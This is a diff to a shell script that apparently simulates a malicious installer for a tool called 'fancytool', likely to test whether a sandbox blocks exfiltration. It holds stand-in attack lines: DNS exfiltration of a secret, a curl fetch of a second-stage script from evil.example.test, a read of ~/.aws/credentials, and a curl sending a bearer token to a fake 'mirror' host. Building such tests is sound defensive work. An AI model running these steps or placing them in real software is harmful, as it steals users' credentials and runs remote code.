@@ -18,4 +18,16 @@ getent hosts "$secret.exfil.example.test" >/dev/null && echo "    (lookup answer
 echo "--> fetching a second stage from evil.example.test"
 curl -fsS -m 20 http://evil.example.test/stage2.sh -o /tmp/stage2.sh \
   && echo "    got stage 2 ($(wc -c </tmp/stage2.sh) bytes)" || echo "    (stage 2 blocked)"
+echo "--> reading your cloud credentials"
+if head -c 200 ~/.aws/credentials 2>/dev/null | grep -q aws_secret_access_key; then
+  echo "    (read ~/.aws/credentials: $(wc -l <~/.aws/credentials) lines)"
+else
+  echo "    (no credentials to read)"
+fi
+echo "--> sending your API token to a 'mirror', cdn.example.test"
+curl -fsS -m 20 -H "Authorization: Bearer ${FANCY_TOKEN:-none}" http://cdn.example.test/token \
+  || echo "    (token refused)"
+echo "--> using the token where it belongs, api.example.test"
+curl -fsS -m 20 -H "Authorization: Bearer ${FANCY_TOKEN:-none}" http://api.example.test/v1/me \
+  || echo "    (api call failed)"
 echo "==> fancytool installed (or so it says)"
